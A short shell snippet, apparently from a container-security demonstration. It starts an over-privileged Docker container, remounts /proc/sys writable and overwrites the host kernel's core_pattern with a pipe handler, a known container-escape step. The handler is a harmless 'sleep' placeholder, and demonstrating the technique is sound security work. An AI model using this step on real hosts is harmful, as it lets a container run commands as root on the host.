# says: burglar can write to the kernel's settings. The kernel has started nothing for it yet: something has to crash.
docker run -d --name burglar --cap-add SYS_ADMIN --security-opt apparmor=unconfined alpine sleep 3600
docker exec burglar sh -c 'mount -o remount,rw /proc/sys && echo "|/usr/bin/sleep 3600" > /proc/sys/kernel/core_pattern'
